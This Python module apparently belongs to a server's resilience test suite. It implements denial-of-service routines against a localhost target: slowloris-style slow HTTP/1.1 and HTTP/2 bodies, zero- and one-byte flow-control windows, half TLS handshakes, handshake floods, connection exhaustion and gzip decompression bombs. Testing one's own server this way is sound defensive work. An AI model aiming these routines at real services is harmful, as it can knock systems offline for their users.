"""Attacks by clients that wait: each holds something of the server's for as long as it lets them."""

import contextlib
import gzip
import ssl

from . import frames as h2
from .attacker import drain

HELD = 400  # connections: more than server.connections
MANY = 60  # connections, each with many streams
STREAMS = 60
SMALL_BUFFER = 2048
PAGE = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"


def zero_window(attacker):
    """Pages without end are asked for; the window never opens."""
    _reader(attacker, lambda wire: None)


def one_byte_windows(attacker):
    """The window opens by one byte a second."""
    _reader(attacker, lambda wire: attacker.send(wire, b"".join(h2.window_update(2 * i + 1, 1) for i in range(STREAMS))))


def _reader(attacker, give):
    asked = b"".join(h2.headers(2 * i + 1, h2.head(path="/")) for i in range(STREAMS))

    def open_one():
        wire = attacker.http2((h2.INITIAL_WINDOW_SIZE, 0))
        attacker.send(wire, asked)
        return wire

    def keep(wire):
        drain(wire)
        give(wire)
    attacker.hold(open_one, MANY, keep)


def slow_tls_reader(attacker):
    """Many pages are asked for at once by TLS, of which a few bytes are read each second."""
    def open_one():
        wire = attacker.connect(tls=True, receive_buffer=SMALL_BUFFER)
        attacker.send(wire, PAGE * 50)
        return wire

    def keep(wire):
        with contextlib.suppress(BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            wire.setblocking(False)
            wire.recv(10)
    attacker.hold(open_one, 100, keep)


def slow_body(attacker):
    """Large bodies are announced, half of them sent, and then a byte a second."""
    head = (f"POST /write HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {attacker.token}\r\n"
            "Content-Length: 2000000\r\n\r\n").encode()

    def open_one():
        wire = attacker.connect()
        attacker.send(wire, head + bytes(1_000_000))
        return wire
    attacker.hold(open_one, 200, lambda wire: attacker.send(wire, b"x"))


def slow_http2_bodies(attacker):
    head = h2.head("POST", "/write", ("authorization", f"Bearer {attacker.token}"))

    def open_one():
        wire = attacker.http2()
        for i in range(STREAMS):
            attacker.send(wire, h2.headers(2 * i + 1, head, end=False) + h2.data(2 * i + 1, bytes(8000)))
        return wire

    def keep(wire):
        drain(wire)
        attacker.send(wire, b"".join(h2.data(2 * i + 1, b"x") for i in range(STREAMS)))
    attacker.hold(open_one, MANY, keep)


def half_handshakes(attacker):
    """The first half of a ClientHello, and no more."""
    hello = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), hello).do_handshake()
    first = hello.read()

    def open_one():
        wire = attacker.connect(attacker.port)
        attacker.send(wire, first[:len(first) // 2])
        return wire
    attacker.hold(open_one, HELD)


def handshakes(attacker):
    """The server signs, the client leaves: the most CPU for the fewest bytes."""
    attacker.again_and_again(lambda: attacker.connect(tls=True).close())


def connections(attacker):
    """More than are allowed, and nothing said on any."""
    attacker.hold(lambda: attacker.connect(), HELD)


def connections_again_and_again(attacker):
    attacker.again_and_again(lambda: attacker.connect().close())


def events_unread(attacker):
    """Event streams over both protocols, never read, while readings come in."""
    write = (f"POST /write HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {attacker.token}\r\nContent-Length: %d\r\n\r\n")
    number = 0

    def open_one():
        nonlocal number
        number += 1
        if number % 2:
            wire = attacker.connect(receive_buffer=SMALL_BUFFER)
            attacker.send(wire, b"GET /events HTTP/1.1\r\nHost: localhost\r\n\r\n")
        else:
            wire = attacker.http2((h2.INITIAL_WINDOW_SIZE, 0))
            attacker.send(wire, b"".join(h2.headers(2 * i + 1, h2.head(path="/events")) for i in range(STREAMS)))
        return wire

    def keep(wire):
        nonlocal number
        number += 1
        if number % 20:
            return
        lines = "".join(f"flood,device=d{i} value={number}\n" for i in range(50))
        with contextlib.suppress(OSError), attacker.connect() as writer:
            attacker.send(writer, (write % len(lines) + lines).encode())
            writer.recv(1000)
    attacker.hold(open_one, 100, keep)


def zip_bombs(attacker):
    """Bodies of zeros that grow a thousand times, of the largest size allowed and beyond."""
    bodies = [gzip.compress(bytes(size << 20), 1) for size in (15, 16, 64)]
    targets = ("/write", "/api/v1/measurements", "/api/v2/write")
    number = 0

    def once():
        nonlocal number
        with attacker.connect() as wire:
            while not attacker.is_over():
                number += 1
                body = bodies[number % len(bodies)]
                attacker.send(wire, (f"POST {targets[number % len(targets)]} HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\n"
                                     f"Authorization: Bearer {attacker.token}\r\nContent-Type: application/json\r\n"
                                     f"Content-Length: {len(body)}\r\n\r\n").encode() + body)
                wire.settimeout(20)
                if not wire.recv(1 << 16):
                    return
    attacker.again_and_again(once)
